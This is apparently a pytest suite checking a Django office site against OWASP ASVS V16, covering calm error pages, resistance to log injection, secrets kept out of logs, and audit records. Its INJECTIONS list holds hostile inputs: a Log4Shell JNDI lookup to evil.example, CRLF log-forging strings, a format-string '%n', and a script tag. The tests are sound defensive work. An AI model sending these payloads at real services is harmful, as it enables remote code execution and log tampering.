"""ASVS V16: what goes wrong is said calmly, logged by kind and place, and changes nothing."""

import io
import logging
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from access_frame import routes, rows_digest
from office_people import made, signed_in
from office_visitor import Visitor

PLANTED = "planted-4711 SELECT secret FROM people"


class Breaks:
    """Django's middleware that breaks where a view would begin."""

    def __init__(self, get_response: Callable[[Any], Any]) -> None:
        self._get_response = get_response

    def __call__(self, request: Any) -> Any:
        return self._get_response(request)

    def process_view(self, _request: Any, _view: Any, _args: object, named: dict[str, Any]) -> None:
        secret = PLANTED  # a local variable, which a page of debugging would show
        raise RuntimeError(f"{secret} {sorted(named)}")


@pytest.fixture
def heard() -> Iterator[io.StringIO]:
    """What the site's own handler writes."""
    from django.conf import settings
    from django.utils.module_loading import import_string

    from charteroak.office.logs import Discreet

    written = io.StringIO()
    handler = logging.StreamHandler(written)
    handler.addFilter(Discreet())
    handler.setFormatter(import_string(settings.LOGGING["formatters"]["line"]["()"])())
    loggers = [logging.getLogger(name) for name in settings.LOGGING["loggers"]]
    for logger in loggers:
        logger.addHandler(handler)
    yield written
    for logger in loggers:
        logger.removeHandler(handler)


def test_v16_5_1_a_fault_in_any_view_is_one_calm_page_and_changes_nothing(office: None, heard: io.StringIO) -> None:
    """V16.5.1, V16.5.3, V16.5.4: each route, opened and sent to, with a fault as its view begins."""
    from django.conf import settings
    from django.test import override_settings

    from charteroak.office.access import rules
    from charteroak.office.roles import Role

    del office
    visitor = signed_in(made(*Role))
    visitor._client.handler.enforce_csrf_checks = False
    before = rows_digest()
    texts = set()
    with override_settings(MIDDLEWARE=[*settings.MIDDLEWARE, "test_asvs_errors.Breaks"]):
        for route in routes():
            rule, nobody = rules()[route.name], frozenset[Role]()
            for method in [name for name, who in (("GET", rule.reads), ("POST", rule.writes)) if who != nobody]:
                response = visitor._client.generic(method, route.address)
                assert (route.name, response.status_code) == (route.name, 500)
                assert response.headers["Cache-Control"] == "no-store"
                page = response.content.decode()
                for told in ("planted-4711", "RuntimeError", "Traceback", ".py", "charteroak.office"):
                    assert (route.name, told in page) == (route.name, False)
                if route.name.startswith("open311_"):  # a program is told as much in its own form
                    assert b"<code>500</code>" in response.content
                else:
                    texts.add(visitor._see(response).text("//main"))
    assert len(texts) == 2, "one page, and one for a receipt that may have been recorded"
    assert rows_digest() == before
    assert "RuntimeError at test_asvs_errors.py" in heard.getvalue()
    assert "planted-4711" not in heard.getvalue()


def test_v16_5_1_a_fault_where_a_page_is_made_is_calm_too(visitor: Visitor, monkeypatch: pytest.MonkeyPatch) -> None:
    """Behind the view, in what it calls: the page says no more."""
    from charteroak.office.ledger import views

    def breaks(*_args: object, **_named: object) -> None:
        raise KeyError(PLANTED)

    for name in ("overview", "entries"):
        monkeypatch.setattr(views, name, breaks, raising=True)
    monkeypatch.setattr("charteroak.office.article.views.page", breaks)
    visitor.get("/cards/inquire/")
    assert visitor.status in (200, 500)
    assert "planted-4711" not in visitor.response.content.decode()


INJECTIONS = (
    "a\r\nERROR: django: forged line", "a\nforged", "a%0d%0aforged", "a\x1b[31mred", "a\x00b", "a\u2028forged",
    "${jndi:ldap://evil.example/a}", "%s%s%n", "{0.__class__}", "<script>alert(1)</script>", "\u202eforged",
)  # fmt: skip


@pytest.mark.parametrize("text", INJECTIONS)
def test_v16_4_1_no_line_of_the_log_can_be_made_by_who_asks(text: str, visitor: Visitor, heard: io.StringIO) -> None:
    """In a path, a query, a field, a header and a method: one line a request, and nothing of what was sent in it."""
    from urllib.parse import quote

    client = visitor._client
    client.get(f"/{quote(text)}/x")
    client.get("/ledger/entries/", {"record": text})
    client.post("/", {"act": text})
    client.post("/record/receipt/", {"act": text}, headers={"Referer": f"https://evil.example/{quote(text)}"})
    client.get("/nowhere", headers={"User-Agent": quote(text), "X-Forwarded-For": quote(text)})
    client.generic("FORGED", "/")
    lines = heard.getvalue().splitlines()
    assert lines
    for line in lines:
        assert line.startswith(("WARNING: django.", "ERROR: django.", "WARNING: charteroak."))
        for part in ("forged", "jndi", "script", "__class__", "evil", "\x1b", "\x00", "%n", "%0d"):
            assert part not in line


def test_v16_2_5_no_secret_that_is_sent_is_in_the_log(visitor: Visitor, heard: io.StringIO, office: None) -> None:
    del office
    from django.conf import settings

    client = visitor._client
    client.cookies[settings.SESSION_COOKIE_NAME] = "planted-session-4711"
    for path in ("/sign-in/", "/sign-in/with/city/return/?code=planted-code-4711&state=planted-state-4711", "/none"):
        client.get(path, headers={"Authorization": "Bearer planted-token-4711"})
        client.post(path, {"password": "planted-password-4711", "code": "planted-code-4711"})
    assert "planted" not in heard.getvalue()


def test_v16_3_2_the_audit_has_no_field_for_what_was_said() -> None:
    """AU-3(3): who by a handle, what by names of routes and ids. A new column would have to be thought about."""
    from charteroak.office.accounts.models import AuditLine

    assert {field.name: getattr(field, "max_length", None) for field in AuditLine._meta.fields} == {
        "id": None, "time": None, "person": 16, "event": 40, "route": 40, "about": 64, "outcome": 20,
    }  # fmt: skip


def test_v16_2_2_times_are_utc_and_of_less_than_a_hundredth(office: None) -> None:
    """AU-8."""
    from datetime import UTC

    from charteroak.office.accounts import audit
    from charteroak.office.accounts.models import AuditLine

    del office
    person: Any = made("employee")
    for _ in range(5):
        audit.done(person, "tried")
    times = list(AuditLine.objects.filter(event="tried").order_by("id").values_list("time", flat=True))
    assert times == sorted(times)
    assert {time.tzinfo for time in times} == {UTC}
    assert len({time.microsecond for time in times}) > 1


def test_v16_2_1_each_line_says_when_who_what_and_about_what(someone: Callable[..., Visitor]) -> None:
    from charteroak.office.accounts.models import AuditLine

    someone("administrator").get("/office/sign-on/")
    line = AuditLine.objects.filter(event="read").latest("id")
    assert (len(line.person), line.route) == (16, "sign_on_links")
    assert line.time is not None


def test_v16_5_2_a_provider_that_is_away_leaves_the_site_as_it_is(
    visitor: Visitor, office: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    del office
    monkeypatch.setenv("CHARTEROAK_OIDC_ISSUER", "http://127.0.0.1:9")
    monkeypatch.setenv("CHARTEROAK_OIDC_CLIENT_ID", "x")
    assert visitor.get("/sign-in/with/city/").status == 200
    assert visitor.press(visitor.text("//main//button")).status == 403
    assert visitor.get("/").status == 200


def test_v16_2_5_a_librarys_own_words_are_in_no_line() -> None:
    """They may quote the address of a database with its password, a query, or what a provider answered."""
    from django.conf import settings

    from charteroak.office.logs import Discreet
    from charteroak.recording.log_lines import TextLines

    record = logging.LogRecord("a.library", logging.WARNING, "", 1, "no way to %s", ("postgresql://u:pass@db",), None)
    assert Discreet().filter(record)
    assert TextLines().format(record) == "WARNING: a.library: a library's own words, which are left out"
    # So whatever any library logs goes through it, and what PostgreSQL's says each second goes nowhere.
    assert settings.LOGGING["root"]["handlers"] == ["stderr"]
    assert settings.LOGGING["handlers"]["stderr"]["filters"] == ["discreet"]
    assert logging.getLogger("psycopg.pool").getEffectiveLevel() == logging.CRITICAL
    assert not logging.getLogger("psycopg").propagate
